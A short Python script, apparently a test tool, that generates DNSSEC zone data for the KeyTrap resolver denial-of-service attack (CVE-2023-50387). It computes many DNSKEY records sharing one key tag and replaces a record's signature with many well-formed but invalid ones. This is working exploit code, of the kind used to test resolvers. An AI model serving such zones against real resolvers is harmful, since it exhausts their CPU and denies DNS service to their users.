#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Signed zones that cost their validator much (CVE-2023-50387, "KeyTrap"): many keys with one tag, many signatures by it.

colliding.py keys FILE COUNT    DNSKEY records of the same owner, algorithm and tag as the key in FILE, for the unsigned zone
colliding.py sign ZONE COUNT    in a signed zone: the signature of host's A record becomes so many wrong ones"""
import base64
import os
import re
import struct
import sys

ED25519_LENGTH = 32


def tag_of(rdata):
    """RFC 4034 appendix B."""
    total = sum(byte << 8 if i % 2 == 0 else byte for i, byte in enumerate(rdata))
    return (total + (total >> 16 & 0xffff)) & 0xffff


def colliding(rdata):
    """Another public key with that tag: random, but for its last two bytes, which are one word of the sum."""
    while True:
        head = rdata[:4] + os.urandom(ED25519_LENGTH - 2)
        total = sum(struct.unpack(f"!{len(head) // 2}H", head))
        for last in range(3):  # how often the sum is carried over depends on the word itself
            word = tag_of(rdata) - total - (total >> 16) - last & 0xffff
            key = head + struct.pack("!H", word)
            if tag_of(key) == tag_of(rdata):
                return key


def keys(path, count):
    with open(path, encoding="ascii") as f:
        owner, flags, protocol, algorithm, key = re.match(
            r"(\S+)\s+(?:\d+\s+)?IN\s+DNSKEY\s+(\d+)\s+(\d+)\s+(\d+)\s+(\S+)", f.read()).groups()
    rdata = struct.pack("!HBB", int(flags), int(protocol), int(algorithm)) + base64.b64decode(key)
    if len(rdata) != 4 + ED25519_LENGTH:
        raise AssertionError(f"{path} has no ED25519 key")
    for _ in range(count):
        other = base64.b64encode(colliding(rdata)[4:]).decode()
        print(f"{owner} 60 IN DNSKEY {flags} {protocol} {algorithm} {other}")


def sign(path, count):
    with open(path, encoding="ascii") as f:
        lines = f.read().splitlines()
    found = [line for line in lines if re.match(r"host\..*\sRRSIG\s+A\s", line)]
    if len(found) != 1:
        raise AssertionError(f"{path} has {len(found)} signatures of host's A record")
    stem = found[0].rsplit(None, 1)[0]
    with open(path, "w", encoding="ascii") as f:
        for line in lines:
            if line != found[0]:
                f.write(line + "\n")
                continue
            for _ in range(count):  # S below the group's order, so that the form alone refuses none
                f.write(f"{stem} {base64.b64encode(os.urandom(63) + bytes(1)).decode()}\n")


if __name__ == "__main__":
    {"keys": keys, "sign": sign}[sys.argv[1]](sys.argv[2], int(sys.argv[3]))
